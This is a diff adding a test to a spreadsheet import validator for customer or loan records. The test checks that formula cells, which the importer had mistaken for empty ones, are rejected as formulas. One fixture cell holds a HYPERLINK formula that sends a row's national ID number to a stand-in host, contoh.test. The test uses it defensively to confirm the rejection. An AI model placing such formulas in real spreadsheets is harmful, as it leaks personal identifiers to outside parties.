@@ -175,3 +175,21 @@ def test_the_command_line_writes_the_template_and_imports(tmp_path, office_templ
     assert out.returncode == 1 and (tmp_path / "bad-kesalahan.xlsx").exists()
     out = run("--db", str(db), "import", "loans", str(good))
     assert out.returncode in (0, 1, 2)
+
+
+def test_a_formula_cell_is_refused_by_the_formula_rule_not_as_an_empty_cell(staff, tmp_path):
+    """A fresh user's trial: a name cell holding a formula (saved by a program that stores no value with it) was
+    read as empty and refused as "wajib diisi"; the officer could not see why."""
+    rows = GOOD[:1] + [
+        ('=HYPERLINK("http://contoh.test/?nik="&B3,"Budi Santoso")', "3204101503850001", dt.date(1985, 3, 15), "L",
+         "6281311112222", "CMO02"),
+        ("Asep Sunandar", "3277011708880004", dt.date(1988, 8, 17), "L", "=1+1", "AO01"),
+    ]
+    path = sheet(tmp_path / "rumus.xlsx", rows)
+    plan = imp.plan_import(staff.kacab, path, today=TODAY)
+    assert [r.action for r in plan.rows] == ["new", "error", "error"]
+    by_row = {(e.row, e.field): e for e in plan.errors}
+    name_error = by_row[(3, "Nama lengkap")]
+    assert name_error.code == "formula" and "rumus" in name_error.message
+    assert not any(e.code == "full_name.required" for e in plan.errors)
+    assert by_row[(4, "Telepon")].code == "formula"
